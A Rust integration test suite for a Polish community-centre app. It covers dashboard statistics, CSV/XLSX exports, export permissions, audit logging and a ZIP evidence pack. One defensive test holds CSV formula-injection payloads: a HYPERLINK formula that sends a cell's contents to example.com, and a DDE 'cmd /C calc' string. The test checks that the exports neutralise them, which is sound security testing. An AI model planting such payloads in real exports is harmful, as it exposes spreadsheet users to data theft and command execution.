//! The dashboard and the exports against real SQLite: numbers over a known set of records, CSV that
//! keeps Polish letters and commas, XLSX that reads back, who may download what, and the audit trail.

use std::io::Cursor;

use crate::support::{small_jpeg, Browser, TestApp};
use axum::http::{header, Method, StatusCode};
use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use chrono::{DateTime, Utc};
use domain::account::Role;
use domain::attendance::{Attendee, ListChange, NewAttendance, Proof};
use domain::help_request::HelpRequestFields;
use domain::photo::{sha256_hex, PeopleVisible, PhotoDecision, PhotoFile, PhotoSubject};
use domain::report::Dashboard;
use domain::resident::ResidentFields;
use domain::sync::protocol::{
    ActOnHelpRequest, AttachPhoto, ChangeAttendance, CreateHelpRequest, CreateResident, Mutation,
    ReviewPhoto,
};
use domain::workflow::Action;
use serde_json::json;
use uuid::Uuid;

async fn event(
    app: &TestApp,
    organiser: &mut Browser,
    title: &str,
    at: &str,
    goals: &[&str],
) -> Uuid {
    let starts: DateTime<Utc> = at.parse().unwrap();
    let answer = app
        .call(
            organiser,
            Method::POST,
            "/api/v1/events",
            Some(json!({
                "title": title,
                "starts_at": starts,
                "ends_at": starts + chrono::Duration::hours(2),
                "location": "brzozowa_7",
                "plan_goals": goals,
            })),
        )
        .await;
    assert_eq!(answer.status, StatusCode::CREATED, "{}", answer.json);
    answer.json["id"].as_str().unwrap().parse().unwrap()
}

fn on_paper(event: Uuid, resident: Option<Uuid>, name: &str) -> Mutation {
    Mutation::ChangeAttendance(ChangeAttendance {
        event_id: event,
        change: ListChange::Record(NewAttendance {
            attendance_id: Uuid::now_v7(),
            attendee: Attendee {
                resident_id: resident,
                name: name.into(),
                district: "okolna".into(),
                ..Default::default()
            },
            proof: Proof::Paper,
            image_consent: None,
            walk_in: resident.is_none(),
            registration: None,
            reason: None,
        }),
    })
}

fn approve_list(event: Uuid) -> Mutation {
    Mutation::ChangeAttendance(ChangeAttendance {
        event_id: event,
        change: ListChange::Approve,
    })
}

fn resident(id: Uuid, name: &str, groups: &[&str]) -> Mutation {
    Mutation::CreateResident(CreateResident {
        resident_id: id,
        fields: ResidentFields {
            name: name.into(),
            district: "okolna".into(),
            target_groups: groups.iter().map(|g| g.to_string()).collect(),
            phone: "600 100 200".into(),
            ..Default::default()
        },
    })
}

fn request(id: Uuid, resident: Uuid, category: &str, description: &str) -> Mutation {
    Mutation::CreateHelpRequest(CreateHelpRequest {
        help_request_id: id,
        fields: HelpRequestFields {
            resident_name: "Anna Żółkiewska".into(),
            resident_id: Some(resident),
            district: "jedwabnik".into(),
            category: category.into(),
            description: description.into(),
            ..Default::default()
        },
    })
}

const DESCRIPTION: &str = "Zakupy: chleb, mleko i \"Żubrówka\" dla pana Łukasza";

struct Centre {
    app: TestApp,
    organiser: Browser,
    coordinator: Browser,
    volunteer: Browser,
    april: Uuid,
    /// Its list is not approved yet.
    may: Uuid,
}

/// Three meetings in 2026 (one list not approved yet, one on 1 April by Polish time), a walk-in, two
/// residents, an accepted request and one still waiting.
async fn centre() -> Centre {
    let app = TestApp::new().await;
    app.add_account("organizator", Role::Organiser).await;
    app.add_account("koordynator", Role::Coordinator).await;
    app.add_account("wolontariusz", Role::Volunteer).await;
    let mut organiser = app.signed_in("organizator").await;
    let coordinator = app.signed_in("koordynator").await;
    let mut volunteer = app.signed_in("wolontariusz").await;
    let (anna, bogdan) = (Uuid::now_v7(), Uuid::now_v7());
    app.push_applied(
        &mut organiser,
        "2026-01-10T10:00:00Z",
        vec![
            resident(anna, "Anna Żółkiewska", &["seniors"]),
            resident(bogdan, "Bogdan Nowak", &["youth"]),
        ],
    )
    .await;
    let march = event(
        &app,
        &mut organiser,
        "Klub seniora",
        "2026-03-10T16:00:00Z",
        &["goal_3"],
    )
    .await;
    let april = event(
        &app,
        &mut organiser,
        "Kawiarenka, sąsiedzka",
        "2026-03-31T22:30:00Z",
        &["goal_3", "goal_6"],
    )
    .await;
    let may = event(
        &app,
        &mut organiser,
        "Warsztaty",
        "2026-05-05T15:00:00Z",
        &["goal_6"],
    )
    .await;
    app.push_applied(
        &mut organiser,
        "2026-05-06T10:00:00Z",
        vec![
            on_paper(march, Some(anna), "Anna Żółkiewska"),
            on_paper(march, Some(bogdan), "Bogdan Nowak"),
            approve_list(march),
            on_paper(april, Some(anna), "Anna Żółkiewska"),
            on_paper(april, None, "Zofia Ćwik, z Grodziska"),
            approve_list(april),
            on_paper(may, Some(bogdan), "Bogdan Nowak"),
        ],
    )
    .await;
    let (accepted, waiting) = (Uuid::now_v7(), Uuid::now_v7());
    app.push_applied(
        &mut volunteer,
        "2026-02-02T09:00:00Z",
        vec![
            request(accepted, anna, "shopping", DESCRIPTION),
            request(waiting, bogdan, "transport", "Dowóz do przychodni"),
        ],
    )
    .await;
    app.push_applied(
        &mut organiser,
        "2026-02-03T09:00:00Z",
        vec![Mutation::ActOnHelpRequest(ActOnHelpRequest {
            help_request_id: accepted,
            seen_revision: 1,
            action: Action::Approve,
        })],
    )
    .await;
    Centre {
        app,
        organiser,
        coordinator,
        volunteer,
        april,
        may,
    }
}

const YEAR: &str = "from=2026-01-01&to=2026-12-31";

async fn dashboard(centre: &mut Centre, query: &str) -> Dashboard {
    let answer = centre
        .app
        .call(
            &mut centre.organiser,
            Method::GET,
            &format!("/api/v1/reports/dashboard?{query}"),
            None,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.json);
    serde_json::from_value(answer.json).unwrap()
}

fn count(rows: &[domain::report::Count], code: &str) -> u32 {
    rows.iter().find(|c| c.code == code).map_or(0, |c| c.count)
}

#[tokio::test]
async fn the_dashboard_counts_the_year_from_stored_records() {
    let mut centre = centre().await;
    let report = dashboard(&mut centre, YEAR).await;
    assert_eq!(report.events, 3);
    assert_eq!(report.attendances, 4, "the May list is not approved yet");
    assert_eq!(report.unique_residents, 3, "Anna came twice");
    assert_eq!(report.requests, 1, "one request still waits for approval");
    assert_eq!(count(&report.requests_by_status, "approved"), 1);
    assert_eq!(count(&report.requests_by_category, "shopping"), 1);
    assert_eq!(count(&report.requests_by_district, "jedwabnik"), 1);
    assert_eq!(count(&report.requests_by_target_group, "seniors"), 1);
    let april = &report.by_month[3];
    assert_eq!((april.events, april.attendances), (1, 2));
    let goal = |code: &str| report.by_goal.iter().find(|g| g.goal == code).unwrap();
    assert_eq!(
        (goal("goal_3").events, goal("goal_3").unique_residents),
        (2, 3)
    );
    assert_eq!((goal("goal_6").events, goal("goal_6").attendances), (2, 2));
    assert_eq!(report.awaiting_review.help_requests, 1);
    assert_eq!(report.awaiting_review.attendance_lists, 1);

    let everything = dashboard(&mut centre, &format!("{YEAR}&include_unapproved=true")).await;
    assert_eq!((everything.attendances, everything.requests), (5, 2));
}

#[tokio::test]
async fn a_bad_period_is_refused_with_a_reason() {
    let mut centre = centre().await;
    for query in [
        "from=2026-12-31&to=2026-01-01",
        "from=2026-13-01&to=2026-12-31",
        "",
    ] {
        let answer = centre
            .app
            .call(
                &mut centre.organiser,
                Method::GET,
                &format!("/api/v1/reports/dashboard?{query}"),
                None,
            )
            .await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{query}");
        assert_eq!(answer.json["error"], "invalid_period");
    }
    let answer = centre
        .app
        .call(
            &mut centre.volunteer,
            Method::GET,
            &format!("/api/v1/reports/dashboard?{YEAR}"),
            None,
        )
        .await;
    assert_eq!(answer.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn csv_keeps_polish_letters_commas_and_quotes() {
    let mut centre = centre().await;
    let answer = centre
        .app
        .call(
            &mut centre.organiser,
            Method::GET,
            &format!("/api/v1/exports/requests.csv?{YEAR}&include_unapproved=true"),
            None,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    assert_eq!(
        answer.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"zgloszenia-2026-01-01-2026-12-31.csv\""
    );
    assert!(
        answer.bytes.starts_with(b"\xEF\xBB\xBF"),
        "a byte-order mark for Excel"
    );
    let mut reader = csv::Reader::from_reader(&answer.bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    let description = headers.iter().position(|h| h == "Opis").unwrap();
    assert_eq!(&rows[0][description], DESCRIPTION);
    assert_eq!(&rows[0][1], "Anna Żółkiewska");
    assert_eq!(&rows[0][3], "Zakupy");
    // The field is quoted, so the commas inside do not split it.
    assert!(answer
        .text
        .contains("\"Zakupy: chleb, mleko i \"\"Żubrówka\"\" dla pana Łukasza\""));
}

#[tokio::test]
async fn a_walk_in_named_like_a_formula_stays_text_in_every_csv() {
    const FORMULA: &str = "=HYPERLINK(\"http://example.com/?\"&A1,\"Kliknij\")";
    let mut centre = centre().await;
    let may = centre.may;
    let resident = Uuid::now_v7();
    centre
        .app
        .push_applied(
            &mut centre.organiser,
            "2026-05-06T11:00:00Z",
            vec![
                on_paper(may, None, FORMULA),
                request(
                    Uuid::now_v7(),
                    resident,
                    "shopping",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                ),
            ],
        )
        .await;
    for path in [
        format!("/api/v1/exports/requests.csv?{YEAR}&include_unapproved=true"),
        format!("/api/v1/exports/attendance.csv?{YEAR}&include_unapproved=true"),
        format!("/api/v1/events/{may}/attendance.csv"),
    ] {
        let answer = centre
            .app
            .call(&mut centre.organiser, Method::GET, &path, None)
            .await;
        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&answer.bytes[3..]);
        let fields: Vec<String> = reader
            .records()
            .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        let runnable: Vec<&String> = fields
            .iter()
            .filter(|field| field.starts_with(['=', '+', '-', '@', '\t', '\r']))
            .collect();
        assert!(runnable.is_empty(), "{path}: {runnable:?}");
        assert!(
            fields
                .iter()
                .any(|field| field.starts_with("'=HYPERLINK") || field.starts_with("'@SUM")),
            "{path}: the entry is in the file, as text: {fields:?}"
        );
    }
}

fn strings(range: &calamine::Range<Data>, column: usize) -> Vec<String> {
    range
        .rows()
        .skip(1)
        .map(|row| row[column].to_string())
        .collect()
}

#[tokio::test]
async fn xlsx_reads_back_with_its_sheets_numbers_and_dates() {
    let mut centre = centre().await;
    let answer = centre
        .app
        .call(
            &mut centre.organiser,
            Method::GET,
            &format!("/api/v1/exports/attendance.xlsx?{YEAR}"),
            None,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(answer.bytes)).unwrap();
    let sheet = workbook.worksheet_range("Obecności").unwrap();
    assert_eq!(sheet.get_size(), (5, 11), "a header and four presences");
    assert_eq!(
        strings(&sheet, 5),
        [
            "Anna Żółkiewska",
            "Bogdan Nowak",
            "Anna Żółkiewska",
            "Zofia Ćwik, z Grodziska"
        ]
    );
    assert_eq!(strings(&sheet, 0)[2], "Kawiarenka, sąsiedzka");
    // Dates are spreadsheet dates in the centre's time: 00:30 on 1 April.
    let Data::DateTime(when) = &sheet.get((3, 1)).unwrap() else {
        panic!("a date cell, got {:?}", sheet.get((3, 1)));
    };
    assert_eq!(
        when.as_datetime().unwrap().to_string(),
        "2026-04-01 00:30:00"
    );
    assert_eq!(sheet.get((1, 4)), Some(&Data::Float(1.0)));

    let answer = centre
        .app
        .call(
            &mut centre.organiser,
            Method::GET,
            &format!("/api/v1/exports/statistics.xlsx?{YEAR}"),
            None,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(answer.bytes)).unwrap();
    assert_eq!(workbook.sheet_names().len(), 8);
    let summary = workbook.worksheet_range("Podsumowanie").unwrap();
    assert_eq!(strings(&summary, 1)[..5], ["3", "0", "4", "3", "1"]);
    let months = workbook.worksheet_range("Miesiące").unwrap();
    assert_eq!(months.get_size().0, 13, "a header and twelve months");
}

#[tokio::test]
async fn only_coordinators_export_residents_and_every_export_is_audited() {
    let mut centre = centre().await;
    let path = format!("/api/v1/exports/residents.csv?{YEAR}");
    let refused = centre
        .app
        .call(&mut centre.organiser, Method::GET, &path, None)
        .await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let answer = centre
        .app
        .call(&mut centre.coordinator, Method::GET, &path, None)
        .await;
    assert_eq!(answer.status, StatusCode::OK);
    assert!(answer.text.contains("Bogdan Nowak,600 100 200"));
    for unknown in ["payroll.csv", "requests.pdf", "requests"] {
        let answer = centre
            .app
            .call(
                &mut centre.coordinator,
                Method::GET,
                &format!("/api/v1/exports/{unknown}?{YEAR}"),
                None,
            )
            .await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{unknown}");
    }
    let answer = centre
        .app
        .call(
            &mut centre.coordinator,
            Method::GET,
            &format!("/api/v1/exports/statistics.csv?{YEAR}"),
            None,
        )
        .await;
    assert_eq!(answer.json["error"], "csv_unavailable");

    let audit = centre
        .app
        .call(
            &mut centre.coordinator,
            Method::GET,
            "/api/v1/audit?action=export_downloaded",
            None,
        )
        .await;
    let entries = audit.json["entries"].as_array().unwrap();
    assert_eq!(
        entries.len(),
        1,
        "refused and failed downloads are not exports"
    );
    assert_eq!(entries[0]["target"], "residents");
    assert_eq!(entries[0]["actor"], "koordynator");
    assert_eq!(entries[0]["details"]["format"], "csv");
    // Anna, Bogdan and the walk-in the server added to the registry.
    assert_eq!(entries[0]["details"]["rows"], 3);
}

/// Attaches a photo to the event and uploads it; the organiser approves it when `approve`.
async fn photo(centre: &mut Centre, caption: &str, jpeg: &[u8], approve: bool) -> Uuid {
    let id = Uuid::now_v7();
    let attach = Mutation::AttachPhoto(AttachPhoto {
        photo_id: id,
        subject: PhotoSubject::Event(centre.april),
        caption: caption.into(),
        people: PeopleVisible::NoIdentifiablePeople,
        file: PhotoFile {
            sha256: sha256_hex(jpeg),
            bytes: jpeg.len() as u64,
            width: 64,
            height: 48,
        },
    });
    centre
        .app
        .push_applied(&mut centre.volunteer, "2026-04-14T18:00:00Z", vec![attach])
        .await;
    let answer = centre
        .app
        .put_bytes(
            &mut centre.volunteer,
            &format!("/api/v1/photos/{id}/original"),
            "image/jpeg",
            jpeg.to_vec(),
        )
        .await;
    assert_eq!(answer.status, StatusCode::CREATED, "{}", answer.text);
    if approve {
        let review = Mutation::ReviewPhoto(ReviewPhoto {
            photo_id: id,
            decision: PhotoDecision::Approve,
        });
        centre
            .app
            .push_applied(&mut centre.organiser, "2026-04-15T10:00:00Z", vec![review])
            .await;
    }
    id
}

#[tokio::test]
async fn the_evidence_pack_holds_sheets_attendance_lists_and_approved_photos_only() {
    let mut centre = centre().await;
    let jpeg = small_jpeg();
    photo(&mut centre, "Przy stole, z ciastem", &jpeg, true).await;
    photo(
        &mut centre,
        "Jeszcze nie sprawdzone",
        &small_jpeg()[..],
        false,
    )
    .await;
    let answer = centre
        .app
        .call(
            &mut centre.organiser,
            Method::GET,
            &format!("/api/v1/exports/evidence_pack.zip?{YEAR}&include_unapproved=true"),
            None,
        )
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
    assert_eq!(
        answer.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"teczka-dokumentacji-2026-01-01-2026-12-31.zip\""
    );
    let mut zip = zip::ZipArchive::new(Cursor::new(answer.bytes)).unwrap();
    let mut names: Vec<String> = zip
        .file_names()
        .map(|name| name.unwrap().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "arkusze/godziny-wolontariuszy.xlsx",
            "arkusze/obecnosci.xlsx",
            "arkusze/statystyki.xlsx",
            "arkusze/zgloszenia.xlsx",
            "listy-obecnosci/001-2026-03-10-klub-seniora.html",
            "listy-obecnosci/002-2026-04-01-kawiarenka-sasiedzka.html",
            "listy-obecnosci/003-2026-05-05-warsztaty.html",
            "notatki-ze-spotkan.html",
            "spis-tresci.html",
            "zdjecia/001-2026-04-14-kawiarenka-sasiedzka.jpg",
            "zdjecia/podpisy.csv",
        ],
        "unapproved lists come when asked for, unapproved photos never"
    );
    let read = |zip: &mut zip::ZipArchive<Cursor<Vec<u8>>>, name: &str| {
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut zip.by_name(name).unwrap(), &mut bytes).unwrap();
        bytes
    };
    let stored = read(&mut zip, "zdjecia/001-2026-04-14-kawiarenka-sasiedzka.jpg");
    assert!(stored.starts_with(&[0xFF, 0xD8]), "a JPEG");
    let captions = String::from_utf8(read(&mut zip, "zdjecia/podpisy.csv")).unwrap();
    assert!(captions.contains("\"Przy stole, z ciastem\""));
    assert!(!captions.contains("Jeszcze nie sprawdzone"));
    let sheet = String::from_utf8(read(
        &mut zip,
        "listy-obecnosci/002-2026-04-01-kawiarenka-sasiedzka.html",
    ))
    .unwrap();
    assert!(sheet.contains("Zofia Ćwik, z Grodziska"));
    assert!(sheet.contains("01.04.2026, 00:30"));
    assert!(sheet.contains("Lista zatwierdzona przez"));
    let contents = String::from_utf8(read(&mut zip, "spis-tresci.html")).unwrap();
    assert!(contents.contains("Dokumentacja działań — 01.01.2026 – 31.12.2026"));
    let workbook: Xlsx<_> =
        open_workbook_from_rs(Cursor::new(read(&mut zip, "arkusze/obecnosci.xlsx"))).unwrap();
    assert_eq!(workbook.sheet_names(), ["Obecności"]);

    let audit = centre
        .app
        .call(
            &mut centre.organiser,
            Method::GET,
            "/api/v1/audit?action=export_downloaded",
            None,
        )
        .await;
    // Organisers do not read the audit log; the coordinator does.
    assert_eq!(audit.status, StatusCode::FORBIDDEN);
    let audit = centre
        .app
        .call(
            &mut centre.coordinator,
            Method::GET,
            "/api/v1/audit?action=export_downloaded",
            None,
        )
        .await;
    let entry = &audit.json["entries"][0];
    assert_eq!(entry["target"], "evidence_pack");
    assert_eq!(entry["details"]["photos"], 1);
    assert_eq!(entry["details"]["attendance_sheets"], 3);
}
